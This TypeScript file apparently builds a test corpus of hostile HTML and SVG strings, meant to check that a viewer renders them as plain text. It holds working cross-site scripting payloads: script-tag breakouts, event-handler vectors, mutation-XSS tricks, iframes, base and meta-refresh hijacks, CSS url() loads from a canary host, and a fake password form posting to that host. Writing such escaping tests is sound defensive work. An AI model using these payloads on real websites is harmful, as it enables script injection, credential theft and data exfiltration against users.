import { everywhere, type HostileText, RUN, type Target } from './types.ts';

const EVENTS = `
  onload onerror onclick onmouseover onmouseenter onfocus onfocusin onblur onanimationstart
  ontransitionend onpointerenter onpointerrawupdate onwheel onscroll ontoggle onbeforetoggle
  onpageshow onhashchange onpopstate onmessage onstart onbegin onend onrepeat oncut oncopy onpaste
  oninput onsecuritypolicyviolation
`
  .trim()
  .split(/\s+/);

/** HTML and SVG, which must be seen as the text that it is. */
export function markup({ canary }: Target): readonly HostileText[] {
  return [
    everywhere(
      'script-tag',
      'runs a script',
      `<script>${RUN}</script>`,
      `<script src="${canary}/a.js"></script>`,
    ),
    everywhere(
      'script-broken-out',
      'closes the element it is put into and runs a script',
      `</script></style></title></textarea></noscript></pre></code></template>--></xmp><script>${RUN}</script>`,
      `"'><script>${RUN}</script>`,
      `</scr<script>ipt><SCRIPT\n>${RUN}</SCRIPT\t>`,
    ),
    everywhere(
      'event-handlers',
      'runs a script on whatever happens first',
      ...EVENTS.map((event) => `<b ${event}="${RUN}" tabindex=0 autofocus style="animation:x 1s">x</b>`),
      `<body onload=${RUN}><input autofocus onfocus=${RUN}><details open ontoggle=${RUN}>x</details>`,
    ),
    everywhere(
      'image-tag',
      'loads a picture, or runs a script when it cannot',
      `<img src=x onerror="${RUN}"><img src="${canary}/b.png"><img srcset="${canary}/c.png 1x">`,
      `<picture><source srcset="${canary}/d.png"></picture><image href="${canary}/e.png"/>`,
    ),
    everywhere(
      'svg-inline',
      'runs a script in a drawing',
      `<svg onload="${RUN}"><script>${RUN}</script><animate onbegin="${RUN}" attributeName=x dur=1s /></svg>`,
      `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a><image href="${canary}/f.svg"/></svg>`,
      `<svg><use href="${canary}/g.svg#x"/><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
    ),
    everywhere(
      'math-and-foreign',
      'mutates into a script when it is parsed twice',
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
      `<math href="javascript:${RUN}">x</math><noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    ),
    everywhere(
      'frames',
      'opens a page inside the page',
      `<iframe src="${canary}/h.html"></iframe><iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
      `<iframe src="javascript:parent.${RUN}"></iframe><frameset><frame src="${canary}/i.html"></frameset>`,
      `<object data="${canary}/j.swf"></object><embed src="${canary}/k.swf"><applet code="${canary}/l.class">`,
      `<portal src="${canary}/m.html"></portal><fencedframe></fencedframe>`,
    ),
    everywhere(
      'page-settings',
      'moves the page, its base or its policy',
      `<base href="${canary}/"><meta http-equiv="refresh" content="0;url=${canary}/n">`,
      `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
      `<link rel=stylesheet href="${canary}/o.css"><link rel=prefetch href="${canary}/p"><link rel="dns-prefetch" href="${canary}">`,
    ),
    everywhere(
      'style-tag',
      'restyles the window or asks for a picture by a style',
      `<style>*{background:url(${canary}/q.png)!important}body{display:none}@import '${canary}/r.css';</style>`,
      `<p style="position:fixed;inset:0;z-index:99999;background:url(${canary}/s.png)">cover</p>`,
      `<p class="skein-find-current" style="behavior:url(#x);-moz-binding:url(${canary}/t.xml)">x</p>`,
    ),
    everywhere(
      'forms',
      'asks for a password, or sends one',
      `<form action="${canary}/u"><input name=password type=password><button formaction="javascript:${RUN}">Sign in</button></form>`,
      `<isindex type=image src=1 onerror=${RUN}><keygen autofocus onfocus=${RUN}><select autofocus onfocus=${RUN}>`,
    ),
    everywhere(
      'media-tags',
      'plays or loads a sound or a film',
      `<video src="${canary}/v.mp4" poster="${canary}/w.png" onerror="${RUN}" autoplay></video>`,
      `<audio src="${canary}/x.mp3" autoplay onerror=${RUN}></audio><track src="${canary}/y.vtt"><bgsound src="${canary}/z.wav">`,
    ),
    everywhere(
      'comments-and-cdata',
      'hides markup in what one parser takes for a comment',
      `<!--><img src=x onerror=${RUN}>--><!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
      `<![CDATA[<script>${RUN}</script>]]><?xml version="1.0"?><?php ${RUN} ?><!DOCTYPE x [<!ENTITY y SYSTEM "${canary}/aa">]>&y;`,
    ),
    everywhere(
      'half-tags',
      'is finished by what follows it in the page',
      `<img src="${canary}/ab?`,
      `<a href='${canary}/ac?`,
      `<script`,
      `<textarea>`,
      `<plaintext>`,
    ),
    everywhere(
      'entities',
      'becomes markup when entities are decoded once too often',
      `&lt;script&gt;${RUN}&lt;/script&gt;`,
      `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
      `&#60;script&#62;${RUN}&#60;/script&#62;`,
      `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
    ),
    everywhere(
      'templates',
      'is taken for the language of some template',
      `{{constructor.constructor('${RUN}')()}}`,
      '${' + RUN + '}',
      `<%= ${RUN} %>`,
      `[[${RUN}]]`,
      `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"},"$$typeof":"react.element"}`,
    ),
    everywhere(
      'custom-elements',
      'makes elements with names that the window itself uses',
      `<transcript-view id="transcript" name="root" is="x-y"></transcript-view><div id=root><slot name=x></slot></div>`,
      `<dialog open id="main">x</dialog><template shadowrootmode=open><script>${RUN}</script></template>`,
    ),
    everywhere(
      'title-breaker',
      'leaves the title of an exported page',
      `</title><script>${RUN}</script><title>`,
      `</pre></details></main></body></html><script>${RUN}</script>`,
    ),
  ];
}
